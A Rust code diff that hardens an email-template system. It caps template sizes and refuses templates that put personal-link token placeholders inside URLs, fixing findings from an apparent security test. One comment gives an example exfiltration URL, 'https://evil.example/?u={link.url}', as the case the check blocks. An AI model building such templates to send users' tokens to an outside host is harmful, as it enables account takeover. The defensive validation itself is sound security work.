@@ -96,11 +96,26 @@ pub async fn effective_in(
 ) -> Result<TemplateText, DbError> {
     let rows: Vec<Row> = tx.fetch_all(&select(scope, kind.key, lang, form)).await?;
     Ok(match rows.into_iter().next() {
-        Some(r) => TemplateText {
-            subject: r.subject,
-            html: r.body_html,
-            text: r.body_text,
-        },
+        Some(r) => {
+            let t = TemplateText {
+                subject: r.subject,
+                html: r.body_html,
+                text: r.body_text,
+            };
+            // Checked again when sent: a template stored before a check
+            // existed must not send a personal link elsewhere.
+            match too_large(&t)
+                .into_iter()
+                .next()
+                .or_else(|| misplaced_link(&t))
+            {
+                None => t,
+                Some(e) => {
+                    tracing::warn!(mail = kind.key, error = %e.message, "stored template refused; the default is sent");
+                    default_text(kind, lang, form)
+                }
+            }
+        }
         None => default_text(kind, lang, form),
     })
 }
@@ -117,7 +132,11 @@ pub fn prepare(kind: &MailKind, t: &TemplateText) -> Result<TemplateText, Vec<Te
         html: template_html(&t.html),
         text: t.text.clone(),
     };
-    let mut errors = Vec::new();
+    let mut errors = too_large(&prepared);
+    if !errors.is_empty() {
+        // Nothing more is looked at: the checks below cost time per byte.
+        return Err(errors);
+    }
     if prepared.subject.is_empty() {
         errors.push(TemplateError {
             part: "subject",
@@ -139,6 +158,9 @@ pub fn prepare(kind: &MailKind, t: &TemplateText) -> Result<TemplateText, Vec<Te
             errors.push(e);
         }
     }
+    if let Some(e) = misplaced_link(&prepared) {
+        errors.push(e);
+    }
     if let Some(name) = placeholder_in_image(&prepared.html) {
         errors.push(TemplateError {
             part: "html",
@@ -154,6 +176,129 @@ pub fn prepare(kind: &MailKind, t: &TemplateText) -> Result<TemplateText, Vec<Te
     } else {
         Err(errors)
     }
+}
+
+/// The largest template parts (finding 1 of the outside-in test: a 3.5 MB
+/// template stalled the server): a subject line, and a mail's HTML and
+/// text, far beyond any real mail.
+pub const MAX_SUBJECT_CHARS: usize = 300;
+pub const MAX_HTML_BYTES: usize = 100 * 1024;
+pub const MAX_TEXT_BYTES: usize = 50 * 1024;
+/// The largest number of placeholders in one part.
+pub const MAX_PLACEHOLDERS: usize = 400;
+
+/// The parts over their limit, each with its message.
+pub fn too_large(t: &TemplateText) -> Vec<TemplateError> {
+    let mut errors = Vec::new();
+    if t.subject.chars().count() > MAX_SUBJECT_CHARS {
+        errors.push(TemplateError {
+            part: "subject",
+            message: format!("the subject is longer than {MAX_SUBJECT_CHARS} characters"),
+        });
+    }
+    for (part, src, max) in [
+        ("html", &t.html, MAX_HTML_BYTES),
+        ("text", &t.text, MAX_TEXT_BYTES),
+    ] {
+        if src.len() > max {
+            errors.push(TemplateError {
+                part,
+                message: format!(
+                    "this part is {} KB; a mail template may be at most {} KB",
+                    src.len() / 1024,
+                    max / 1024
+                ),
+            });
+        } else if src.matches('{').count() > 2 * MAX_PLACEHOLDERS {
+            errors.push(TemplateError {
+                part,
+                message: format!("a template may hold at most {MAX_PLACEHOLDERS} placeholders"),
+            });
+        }
+    }
+    errors
+}
+
+/// True for a placeholder whose value carries a personal token: a link
+/// (`link.url`) or a block with links (`*links*`).
+fn carries_token(name: &str) -> bool {
+    (name.starts_with("link.") && name != "link.valid_for") || name.contains("links")
+}
+
+/// The placeholders in `src` with their byte ranges (braces included);
+/// `{{` is a literal brace.
+fn placeholders(src: &str) -> Vec<(usize, usize, &str)> {
+    let mut out = Vec::new();
+    let b = src.as_bytes();
+    let mut i = 0;
+    while i < b.len() {
+        if b[i] == b'{' {
+            if b.get(i + 1) == Some(&b'{') {
+                i += 2;
+                continue;
+            }
+            if let Some(end) = src[i..].find('}') {
+                out.push((i, i + end + 1, &src[i + 1..i + end]));
+                i += end + 1;
+                continue;
+            }
+        }
+        i += 1;
+    }
+    out
+}
+
+/// Where a placeholder that carries a token stands wrong (finding 3 of
+/// the outside-in test): in HTML only as the whole `href` of a link or as
+/// text; in text (and HTML text) not glued to other address characters,
+/// so `https://evil.example/?u={link.url}` cannot carry the token away.
+fn misplaced_link(t: &TemplateText) -> Option<TemplateError> {
+    let refuse = |part: &'static str, name: &str| TemplateError {
+        part,
+        message: format!(
+            "{{{name}}} carries a personal link: it may only stand on its own, as the whole \
+             address of a link (<a href=\"{{{name}}}\">) or as text with spaces around it"
+        ),
+    };
+    let glued = |src: &str, start: usize, end: usize| {
+        let before = src[..start].chars().next_back();
+        let after = src[end..].chars().next();
+        let bad = |c: char| c.is_alphanumeric() || "=/?&#%:.@+-_~".contains(c);
+        before.is_some_and(bad)
+            || after.is_some_and(|c| c.is_alphanumeric() || "=/?&#%@+_~".contains(c))
+    };
+    for (part, src) in [("subject", &t.subject), ("text", &t.text)] {
+        for (start, end, name) in placeholders(src) {
+            if carries_token(name) && glued(src, start, end) {
+                return Some(refuse(part, name));
+            }
+        }
+    }
+    // HTML: inside a tag only as a whole href value; outside tags as text.
+    let html = &t.html;
+    for (start, end, name) in placeholders(html) {
+        if !carries_token(name) {
+            continue;
+        }
+        let open = html[..start].rfind('<');
+        let close = html[..start].rfind('>');
+        let in_tag = match (open, close) {
+            (Some(o), Some(c)) => o > c,
+            (Some(_), None) => true,
+            _ => false,
+        };
+        if in_tag {
+            let whole_href = html[..start].ends_with("href=\"")
+                && html[end..].starts_with('"')
+                && open.is_some_and(|o| html[o..].starts_with("<a "));
+            if !whole_href {
+                return Some(refuse("html", name));
+            }
+        } else if glued(html, start, end) {
+            return Some(refuse("html", name));
+        }
+    }
+    None
 }
 
 /// The first placeholder inside an `<img src="...">` of cleaned HTML.
